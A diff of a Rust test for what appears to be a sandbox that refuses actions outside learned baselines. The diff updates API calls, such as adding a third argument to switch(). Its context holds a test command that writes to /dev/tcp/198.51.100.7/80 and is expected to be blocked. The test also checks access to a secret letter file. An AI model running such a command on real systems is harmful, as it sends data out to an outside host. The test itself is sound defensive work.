@@ -90,7 +90,7 @@ fn clean_sessions_pass_and_what_none_of_them_did_is_refused() {
         let armed = started.elapsed();
         let output = scene.inside(&script);
         scene.pump(&mut live);
-        let marks = live.coverage().marks;
+        let marks = live.coverage().unwrap().marks;
         let (report, _) = live.finish(Some(0));
         println!("armed in {armed:?}, {marks} marks of T0, {:?}, p = {:?}", report.fanotify, report.score);
         assert!(output.status.success() && output.stderr.is_empty(), "{output:?}");
@@ -116,11 +116,11 @@ fn clean_sessions_pass_and_what_none_of_them_did_is_refused() {
     let sent = scene.inside("bash -c 'echo x > /dev/tcp/198.51.100.7/80'");
     assert!(sent.stderr.contains_str("not permitted"), "{sent:?}");
     // Another task, of which nothing was learned, and back.
-    live.switch(&"other".parse().unwrap(), None).unwrap();
+    live.switch(&"other".parse().unwrap(), None, None).unwrap();
     assert!(scene.inside(&format!("cat {home}/letter.txt")).stdout.contains_str(SECRET));
     let back = models::Baseline { task: "third".into(), ..(*baseline).clone() };
     let entered = live.place().enter(&"third".parse().unwrap(), Arc::new(back)).unwrap();
-    live.switch(&"third".parse().unwrap(), Some(entered)).unwrap();
+    live.switch(&"third".parse().unwrap(), Some(entered), None).unwrap();
     assert!(!scene.inside(&format!("cat {home}/letter.txt")).stdout.contains_str(SECRET));
     assert_eq!(live.segment().index, 2);
     scene.pump(&mut live);
